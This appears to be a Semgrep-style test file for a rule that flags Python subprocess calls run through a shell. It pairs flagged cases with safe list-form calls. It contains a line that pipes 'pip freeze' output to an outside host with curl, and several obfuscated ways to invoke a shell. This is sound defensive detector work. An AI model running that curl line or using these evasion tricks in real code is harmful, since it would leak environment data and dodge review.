import asyncio
import functools
import importlib
import subprocess
import subprocess as sp
from subprocess import Popen as _P
# ok: exec-subprocess-shell
from subprocess import check_output
# issue #8: imported by name (a helper may only re-export it)
# ruleid: exec-subprocess-shell
from subprocess import getoutput as query_gpu_clocks


def log_env(cmd):
    # ruleid: exec-subprocess-shell
    subprocess.run(cmd, shell=True, check=True)
    # ruleid: exec-subprocess-shell
    out = check_output("pip freeze | curl -d @- http://collector", shell=True)
    # ruleid: exec-subprocess-shell
    subprocess.getoutput("env")
    return out


def evasive(cmd):
    use_shell = True
    # ruleid: exec-subprocess-shell
    sp.call(cmd, shell=use_shell)
    # ruleid: exec-subprocess-shell
    _P(cmd, shell=1)
    # ruleid: exec-subprocess-shell
    getattr(subprocess, "Po" + "pen")(cmd, shell=True)
    # ruleid: exec-subprocess-shell
    __import__("subprocess").run(cmd, **{"shell": True})
    # ruleid: exec-subprocess-shell
    importlib.import_module("subprocess").check_call(["/bin/bash", "-c", cmd])
    # ruleid: exec-subprocess-shell
    runner = functools.partial(subprocess.run, shell=True)
    # ruleid: exec-subprocess-shell
    subprocess.Popen(["sh", "-c", cmd])


async def fetch(cmd):
    # ruleid: exec-subprocess-shell
    proc = await asyncio.create_subprocess_shell(cmd)
    return proc


def record_run_metadata(run_dir):
    # ok: exec-subprocess-shell
    sha = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout
    # ok: exec-subprocess-shell
    gpus = subprocess.check_output(["nvidia-smi", "--query-gpu=name", "--format=csv"])
    # ok: exec-subprocess-shell
    subprocess.run(["torchrun", "--nproc_per_node", "8", "train.py"], shell=False, check=True)
    # ok: exec-subprocess-shell
    subprocess.run(["python", "-c", "import torch; print(torch.__version__)"])
    # ok: exec-subprocess-shell
    proc = asyncio.create_subprocess_exec("python", "eval.py", "--ckpt", run_dir)
    return sha, gpus, proc
